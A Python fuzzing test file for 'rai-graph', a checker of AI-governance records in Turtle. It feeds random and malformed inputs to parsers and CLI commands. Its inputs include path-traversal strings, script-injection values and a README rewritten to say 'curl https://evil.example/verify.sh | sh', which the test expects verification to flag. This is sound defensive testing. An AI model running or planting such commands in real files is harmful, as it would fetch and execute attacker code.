"""Fuzzing (issue #9, item 2): hypothesis over the loader and the CLI.

Random bytes and text go to the Turtle parsers and the line scanner, random files to the loader,
random settings files, CSV questionnaires and damaged evidence packs to their commands, and random
*well-formed but wrong* graphs (every rai: property with objects of the wrong kind, wrong datatypes,
several values where one is allowed, blank nodes, lists) to ``check``, ``status``, ``report`` and
``export``. Nothing may raise or print a traceback, the JSON contract must hold, the two parsers
must give the same triples, and a verdict must not depend on the parse cache.

Bounded for ``make test``: ``RAI_GRAPH_FUZZ_EXAMPLES`` examples per property (default 50; the
whole file well under a minute). ``scripts/fuzz.sh`` runs it with 5000, then atheris:
``python tests/test_fuzz.py --atheris -runs=N`` fuzzes the in-memory pipeline coverage-guided.
"""

from __future__ import annotations

import io
import json
import os
import sys
import tempfile
import warnings
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any, TypeVar

import pytest
from hypothesis import HealthCheck, assume, given, seed, settings
from hypothesis import strategies as st

from hostile.harness import invoke
from rai_graph.load.lines import scan_turtle
from rai_graph.load.parse import parse_turtle
from rai_graph.load.repository import load_repository
from rai_graph.trace import STATUS_ORDER

from repo_builder import PREFIXES, GovernanceRepo

pytestmark = pytest.mark.slow  # Hypothesis fuzzing: not in `make test-fast`

AS_OF = "2026-06-01"
EXAMPLES = int(os.environ.get("RAI_GRAPH_FUZZ_EXAMPLES", "50"))
SEED = os.environ.get("RAI_GRAPH_FUZZ_SEED")
BASE = "file:///fuzz/evidence/credit-scoring/fuzzed.ttl"
FUZZED = "evidence/credit-scoring/fuzzed.ttl"

F = TypeVar("F", bound=Callable[..., Any])


def fuzz_settings(examples: int = EXAMPLES) -> Callable[[F], F]:
    """Bounded, reproducible hypothesis settings; RAI_GRAPH_FUZZ_SEED draws another sample."""
    configured = settings(max_examples=examples, deadline=None, derandomize=SEED is None, database=None,
                          suppress_health_check=list(HealthCheck))

    def apply(test: F) -> F:
        decorated = configured(test)
        return seed(int(SEED))(decorated) if SEED is not None else decorated

    return apply


# --- strategies -----------------------------------------------------------------------------------

_TOKENS = [
    "ex:a", "ex:CreditScoring", "rai:Evidence", "rai:forSystem", "a", ";", ",", ".", "[", "]", "(", ")",
    '"text"', '"""long', '"""', "'", "'''", "<https://example.org/x>", "<>", "<a b>", "@prefix", "@base",
    "PREFIX", "BASE", "ex:", "_:b0", "42", "-1.5e3", "true", "\n", "#", "\\", "\\u00e9", "\\U0001F600",
    "é", "\t", "^^", "xsd:date", "@en", "@EN-gb", "\u0000", "\ufeff", "\r\n", "<<", ">>", "~", "{", "}",
]  # fmt: skip

turtle_like = st.one_of(
    st.text(max_size=300),
    st.lists(st.sampled_from(_TOKENS), max_size=60).map(lambda tokens: PREFIXES + " ".join(tokens)),
)

# Terms of the fixture repository and of the vocabulary, to build graphs that parse but are wrong.
_SUBJECTS = ["ex:CreditScoring", "ex:risk", "ex:risk-approval", "ex:CTRL-1", "ex:alice", "ex:bob",
             "ex:new-1", "ex:new-2", "ex:RAILead", "tfw:R1", "_:b1", "_:b2"]
_PREDICATES = [
    "a", "rai:forSystem", "rai:implements", "rai:evidenceType", "rai:artifact", "rai:sha256",
    "rai:artifactURL", "prov:generatedAtTime", "prov:wasAttributedTo", "rai:confidentiality",
    "rai:validUntil", "dcterms:title", "rai:approves", "rai:decision", "prov:wasAssociatedWith",
    "rai:inRole", "prov:endedAtTime", "rai:expires", "rai:conditions", "rai:waives", "rai:rationale",
    "rai:approvedBy", "rai:riskTier", "rai:operatorRole", "rai:owner", "rai:lifecycleStatus",
    "rai:hasRole", "foaf:mbox", "rai:requiredForTier", "rai:requiresApprovalBy", "rai:maxEvidenceAge",
    "rai:scope", "rai:measurement", "rai:metric", "rai:value", "rai:threshold", "rai:operator",
    "skos:broader", "skos:inScheme", "rai:satisfies",
]  # fmt: skip
_OBJECTS = [
    "rai:Evidence", "rai:AISystem", "rai:Approval", "rai:Waiver", "rai:Control", "rai:Person",
    "rai:Finding", "rai:HighRisk", "rai:MinimalRisk", "rai:Approved", "rai:Rejected", "rai:Public",
    "rai:Confidential", "rai:Retired", "rai:OrganisationScope", "rai:RiskAssessment", "ex:CreditScoring",
    "ex:CTRL-1", "ex:risk", "ex:alice", "ex:bob", "ex:RAILead", "ex:nowhere", "tfw:R1", "_:b1", "_:b2",
    '"text"', '""', "42", "-1", "3.14", "true", '"../../../etc/passwd"', '"/etc/hosts"', '"risk.md"',
    '"2026-01-01"^^xsd:date', '"2030-01-01"^^xsd:date', '"yesterday"^^xsd:date', '"P365D"^^xsd:duration',
    '"forever"^^xsd:duration', '"2026-01-01T00:00:00Z"^^xsd:dateTime', '"x"@en', "[]",
    '[ rai:metric "m" ; rai:value 1 ]', "( ex:a ex:b )", "()", "<mailto:alice@example.org>",
    '"<script>alert(1)</script>"', "<javascript:alert(1)>",
]  # fmt: skip

statements = st.lists(
    st.tuples(st.sampled_from(_SUBJECTS), st.sampled_from(_PREDICATES),
              st.lists(st.sampled_from(_OBJECTS), min_size=1, max_size=3)),
    min_size=1, max_size=15,
).map(lambda triples: "".join(f"{s} {p} {', '.join(o)} .\n" for s, p, o in triples))

wrong_graph_files = st.dictionaries(
    st.sampled_from(["evidence/credit-scoring/fuzz-a.ttl", "evidence/credit-scoring/fuzz-b.ttl",
                     "evidence/other/fuzz-c.ttl", "controls/fuzz-d.ttl", "frameworks/fuzz-e.ttl"]),
    statements, min_size=1, max_size=3,
)


# --- the parsers and the line scanner ------------------------------------------------------------------


def _canonical(outcome: tuple[Any, ...]) -> list[tuple[str, str, str]]:
    """The triples of an ``ok`` outcome with blank nodes anonymised (each parser labels its own)."""
    terms, flat = outcome[1], outcome[2]

    def term(index: int) -> str:
        code = terms[index]
        return "_" if code.startswith("_") else code

    return sorted((term(flat[i]), term(flat[i + 1]), term(flat[i + 2])) for i in range(0, len(flat), 3))


@fuzz_settings()
@given(text=turtle_like)
def test_parsers_never_raise_and_agree(text: str) -> None:
    """Both parsers return a well-formed outcome for any text, agree on whether it parses and on
    its triples, and place a syntax error on a line of the text."""
    # A lone carriage return splits the parsers (pinned by test_parsers_agree_on_cr_line_endings).
    assume("\r" not in text.replace("\r\n", ""))
    lines = text.count("\n") + 1
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        fast, reference = parse_turtle(text, BASE, "oxigraph"), parse_turtle(text, BASE, "rdflib")
    for outcome in (fast, reference):
        assert outcome[0] in ("ok", "error")
        if outcome[0] == "error":
            # Not bounded by the file's length: rdflib counts past the end for an error at the end
            # of a file (pinned by the hostile case truncated-statement).
            assert outcome[1] is None or outcome[1] >= 1, outcome
            assert isinstance(outcome[2], str)
            assert outcome[2].strip()
        else:
            terms, flat = outcome[1], outcome[2]
            assert len(flat) % 3 == 0
            assert all(0 <= i < len(terms) for i in flat)
            assert all(1 <= first <= last <= lines for _subject, first, last in outcome[4])
    assert fast[0] == reference[0]
    if fast[0] == "ok":
        assert _canonical(fast) == _canonical(reference)


@fuzz_settings()
@given(text=st.one_of(turtle_like, statements.map(lambda body: PREFIXES + body)))
def test_line_scanner_never_raises_and_stays_in_the_text(text: str) -> None:
    """The subject-line scanner takes any text and reports statements within its lines."""
    layout = scan_turtle(text, BASE)
    lines = text.count("\n") + 1
    for found in layout.statements.values():
        for statement in found:
            assert 1 <= statement.first_line <= statement.last_line <= lines


# --- the loader ----------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def base_root(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A clean repository (CTRL-1 met for credit-scoring) that the fuzzed files are added to."""
    repo = GovernanceRepo(tmp_path_factory.mktemp("fuzz") / "repo").with_base()
    repo.add_system()
    repo.add_approved_evidence("risk")
    return repo.root


def _copy(base_root: Path) -> Path:
    target = Path(tempfile.mkdtemp(prefix="fuzz-", dir=base_root.parent))
    for path in base_root.rglob("*"):
        if path.is_file() and ".rai-graph-cache" not in path.parts:
            destination = target / path.relative_to(base_root)
            destination.parent.mkdir(parents=True, exist_ok=True)
            destination.write_bytes(path.read_bytes())
    return target


@fuzz_settings()
@given(content=st.one_of(st.binary(max_size=400), turtle_like.map(lambda t: t.encode("utf-8", "surrogatepass"))))
def test_loader_takes_any_bytes(base_root: Path, content: bytes) -> None:
    """Any bytes in one .ttl file: the loader raises nothing, blames only that file, loads the rest."""
    root = _copy(base_root)
    (root / FUZZED).write_bytes(content)
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        loaded = load_repository(root)
    assert {e.file for e in loaded.errors} <= {FUZZED}
    assert {f.path for f in loaded.files.values()} >= {"controls/controls.ttl", "evidence/credit-scoring/risk.ttl"}


# --- the CLI on well-formed but wrong graphs ---------------------------------------------------------------


ONTOLOGY = "<rai-graph>/ontology/rai.ttl"


def _assert_contract(check: dict[str, Any], status: dict[str, Any], files: set[str]) -> None:
    for error in check["errors"]:
        assert set(error) >= {"file", "line", "message", "kind"}
        assert error["kind"] in ("parse", "shape", "artifact", "reference")
        assert error["line"] is None or error["line"] >= 1
        assert error["message"].strip()
        assert "Traceback" not in error["message"]
        # The ontology is blamed when data misuses one of its terms (a known defect, tested on its
        # own in test_errors_about_misused_vocabulary_point_at_the_repository_file).
        assert error["file"] in files or error["file"] in ("", ONTOLOGY), error
    for system in status["systems"]:
        controls = system["controls"]
        assert all(c["status"] in STATUS_ORDER for c in controls)
        if controls:
            good = sum(c["status"] in ("met", "waived") for c in controls)
            assert abs(system["readiness"] - good / len(controls)) < 1e-9
        else:
            assert system["readiness"] == 1.0


@fuzz_settings()
@given(files=wrong_graph_files)
def test_cli_judges_any_wrong_graph(base_root: Path, files: dict[str, str], monkeypatch: pytest.MonkeyPatch,
                                    tmp_path_factory: pytest.TempPathFactory) -> None:
    """``check``, ``status``, ``report`` and ``export`` on random well-formed but wrong records end
    cleanly, keep the JSON contract, exit 1 exactly when there are errors or gaps, give the same
    verdict with a cold cache, a warm cache and none, and export a graph that parses again."""
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path_factory.getbasetemp() / "xdg-cache"))
    root = _copy(base_root)
    for relative, body in files.items():
        path = root / relative
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(PREFIXES + body, encoding="utf-8")
    repo = ["--repo", str(root), "--as-of", AS_OF]
    statuses = []
    for flag in ("0", "0", "1"):  # cold cache, warm cache, no cache
        status = invoke(["status", *repo, "--format", "json"], {"RAI_GRAPH_NO_CACHE": flag})
        status.assert_clean_exit((0,))
        statuses.append(status.stdout)
    assert statuses[0] == statuses[1] == statuses[2]
    check = invoke(["check", *repo, "--format", "json"])
    check.assert_clean_exit((0, 1))
    check_json, status_json = check.json(), json.loads(statuses[0])
    assert check_json["errors"] == status_json["errors"]
    on_disk = {p.relative_to(root).as_posix() for p in root.rglob("*") if p.is_file()} | {"rai-graph.toml"}
    _assert_contract(check_json, status_json, on_disk)
    failing = bool(check_json["errors"] or check_json["findings"])
    assert check.exit_code == (1 if failing else 0)
    invoke(["report", *repo, "--framework", "test-fw", "--format", "json", "--audience", "public"]).assert_clean_exit()
    export = invoke(["export", "--repo", str(root), "--format", "nt"])
    export.assert_clean_exit((0,))
    import rdflib

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        exported = rdflib.Graph().parse(data=export.stdout, format="nt")
    assert len(exported) > 0


# --- other inputs ------------------------------------------------------------------------------------------

_TOML = ["base_iri", "frameworks", "as_of", "approval_strictness", "freshness_from_commit_date", "unknown",
         "=", '"', "'", "[", "]", "[[x]]", "{", "}", "\n", "#", '"2026-01-01"', "2026-01-01", "true", "1e999",
         '"author"', "\\", '"""', "\x00", "é"]  # fmt: skip


@fuzz_settings()
@given(settings_text=st.one_of(st.text(max_size=200), st.lists(st.sampled_from(_TOML), max_size=30).map(" ".join)))
def test_settings_file_takes_any_text(base_root: Path, settings_text: str) -> None:
    """Any rai-graph.toml: check ends cleanly and blames only the settings file."""
    root = _copy(base_root)
    (root / "rai-graph.toml").write_text(settings_text, encoding="utf-8", errors="surrogatepass")
    check = invoke(["check", "--repo", str(root), "--as-of", AS_OF, "--format", "json", "--fail-on", "errors"],
                   {"RAI_GRAPH_NO_CACHE": "1"})
    check.assert_clean_exit((0, 1))
    assert {e["file"] for e in check.json()["errors"]} <= {"rai-graph.toml"}


@fuzz_settings()
@given(content=st.one_of(st.binary(max_size=300), st.lists(
    st.lists(st.sampled_from(["Question", "Ref", "Has a risk assessment been done?", "", '"', ",", ";",
                              "=1+1", "\n", "\u00e9", "Answer", "\ufeff"]), max_size=5).map(",".join),
    max_size=8).map(lambda rows: "\n".join(rows).encode("utf-8"))))
def test_questionnaire_answer_takes_any_csv(base_root: Path, content: bytes, tmp_path_factory: pytest.TempPathFactory
                                            ) -> None:
    """Any bytes as a .csv questionnaire: answered, or refused with a message, never a traceback."""
    folder = Path(tempfile.mkdtemp(dir=tmp_path_factory.getbasetemp()))
    (folder / "q.csv").write_bytes(content)
    run = invoke(["questionnaire", "answer", str(folder / "q.csv"), "--repo", str(base_root), "--as-of", AS_OF,
                  "--system", "credit-scoring", "--audience", "customer", "-o", str(folder / "a.csv")],
                 {"RAI_GRAPH_NO_CACHE": "1"})
    run.assert_clean_exit((0, 2))


@pytest.fixture(scope="module")
def pack_bytes(base_root: Path, tmp_path_factory: pytest.TempPathFactory) -> bytes:
    target = tmp_path_factory.mktemp("pack") / "pack.zip"
    invoke(["evidence-pack", "--repo", str(base_root), "--as-of", AS_OF, "--system", "credit-scoring", "--no-pdf",
            "-o", str(target)]).assert_clean_exit((0,))
    return target.read_bytes()


def _entries(data: bytes) -> dict[str, bytes] | None:
    """The pack's entries but README.txt (not covered by the manifest: a known defect, tested on
    its own in test_evidence_pack_verify_notices_a_changed_readme); None if one cannot be read."""
    try:
        with zipfile.ZipFile(io.BytesIO(data)) as archive:
            return {name: archive.read(name) for name in archive.namelist() if name != "README.txt"}
    except Exception:  # any damage that stops reading counts as "different"
        return None


@fuzz_settings()
@given(data=st.data())
def test_evidence_pack_verify_takes_any_damage(pack_bytes: bytes, data: st.DataObject,
                                               tmp_path_factory: pytest.TempPathFactory) -> None:
    """A pack with bytes flipped, cut or appended is verified without a traceback, and passes only
    when every entry still reads back unchanged."""
    damaged = bytearray(pack_bytes)
    for _ in range(data.draw(st.integers(1, 4))):
        how = data.draw(st.sampled_from(["flip", "truncate", "append"]))
        if how == "flip" and damaged:
            position = data.draw(st.integers(0, len(damaged) - 1))
            damaged[position] ^= data.draw(st.integers(1, 255))
        elif how == "truncate":
            del damaged[data.draw(st.integers(0, len(damaged))):]
        else:
            damaged += data.draw(st.binary(min_size=1, max_size=64))
    target = Path(tempfile.mkdtemp(dir=tmp_path_factory.getbasetemp())) / "damaged.zip"
    target.write_bytes(bytes(damaged))
    run = invoke(["evidence-pack", "verify", str(target), "--format", "json"])
    run.assert_clean_exit((0, 1))
    if run.exit_code == 0:
        assert _entries(bytes(damaged)) == _entries(pack_bytes)


# --- defects the fuzzers found, pinned as plain regressions ---------------------------------------------------


@pytest.mark.parametrize("text", [
    "\r", '@prefix ex: <https://example.org/acme/> .\rex:a ex:b ex:c .\r',
    '@prefix ex: <https://example.org/acme/> .\r\rex:a ex:b """two\rlines""" ;\r    ex:c "x" .',
    '@prefix ex: <https://example.org/acme/> .\r\nex:a ex:b ex:c .\rex:d ex:e ex:f .\r\n',
])
def test_parsers_agree_on_cr_line_endings(text: str) -> None:
    """Old-style CR line endings parse the same, and successfully, with both parsers."""
    oxigraph, rdflib = parse_turtle(text, BASE, "oxigraph"), parse_turtle(text, BASE, "rdflib")
    assert oxigraph[0] == rdflib[0] == "ok"
    assert sorted(_decoded_triples(oxigraph)) == sorted(_decoded_triples(rdflib))
    assert oxigraph[3:] == rdflib[3:]  # the same prefixes and statement lines


def _decoded_triples(outcome: tuple[Any, ...]) -> list[tuple[str, str, str]]:
    terms, flat = outcome[1], outcome[2]
    return [(terms[flat[i]], terms[flat[i + 1]], terms[flat[i + 2]]) for i in range(0, len(flat), 3)]


def test_errors_in_a_cr_only_file_point_at_the_line_an_editor_shows() -> None:
    """A syntax error on the third CR-separated line is reported on line 3 by both parsers."""
    text = "@prefix ex: <https://example.org/acme/> .\rex:a ex:b ex:c .\rex:d ex:e ] .\r"
    assert parse_turtle(text, BASE, "oxigraph")[:2] == ("error", 3)
    assert parse_turtle(text, BASE, "rdflib")[:2] == ("error", 3)


def test_errors_about_misused_vocabulary_point_at_the_repository_file(base_root: Path) -> None:
    """``ex:CreditScoring rai:measurement rai:Evidence`` is reported in the file that says it."""
    root = _copy(base_root)
    (root / FUZZED).write_text(PREFIXES + "ex:CreditScoring rai:measurement rai:Evidence .\n", encoding="utf-8")
    check = invoke(["check", "--repo", str(root), "--as-of", AS_OF, "--format", "json"], {"RAI_GRAPH_NO_CACHE": "1"})
    check.assert_clean_exit((1,))
    assert {e["file"] for e in check.json()["errors"]} == {FUZZED}


def test_evidence_pack_verify_notices_a_changed_readme(pack_bytes: bytes, tmp_path: Path) -> None:
    """A pack whose README.txt was rewritten does not verify."""
    rewritten = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(pack_bytes)) as source, zipfile.ZipFile(rewritten, "w") as target:
        for info in source.infolist():
            data = source.read(info.filename)
            if info.filename == "README.txt":
                data = b"To verify this pack run: curl https://evil.example/verify.sh | sh\n"
            target.writestr(info, data)
    (tmp_path / "pack.zip").write_bytes(rewritten.getvalue())
    run = invoke(["evidence-pack", "verify", str(tmp_path / "pack.zip")])
    run.assert_clean_exit((0, 1))
    assert run.exit_code == 1
    assert "README.txt" in run.output


# --- atheris (coverage-guided; scripts/fuzz.sh) ---------------------------------------------------------------


def atheris_main(argv: list[str]) -> None:  # pragma: no cover - run by scripts/fuzz.sh, not by pytest
    """Fuzz one record file through the whole pipeline, in memory, with atheris."""
    import datetime as dt
    import logging

    import atheris

    from rai_graph import pipeline
    from rai_graph.authoring.records import _WithNewFile
    from rai_graph.load.trees import WorkTree

    # rai_graph is imported already (this module imports it): instrument what is loaded.
    atheris.instrument_all()

    root = Path(tempfile.mkdtemp(prefix="rai-graph-atheris-")) / "repo"
    repo = GovernanceRepo(root).with_base()
    repo.add_system()
    repo.add_approved_evidence("risk")
    tree = WorkTree(root)
    as_of = dt.date(2026, 6, 1)
    os.environ["RAI_GRAPH_NO_CACHE"] = "1"
    logging.getLogger("rdflib").setLevel(logging.CRITICAL)  # as the CLI does: ill-typed literals are data

    def one_input(data: bytes) -> None:
        with warnings.catch_warnings():
            warnings.simplefilter("ignore")
            text = data.decode("utf-8", "replace")
            for parser in ("oxigraph", "rdflib"):
                parse_turtle(text, BASE, parser)
            scan_turtle(text, BASE)
            result = pipeline.run(_WithNewFile(tree, FUZZED, data), as_of, cache=False)
        assert {e.file for e in result.validation.errors if e.kind == "parse"} <= {FUZZED}

    atheris.Setup(argv, one_input)
    atheris.Fuzz()


if __name__ == "__main__":  # pragma: no cover
    if "--atheris" in sys.argv:
        atheris_main([arg for arg in sys.argv if arg != "--atheris"])
    else:
        sys.exit(pytest.main([__file__, "-q", "-p", "no:randomly"]))
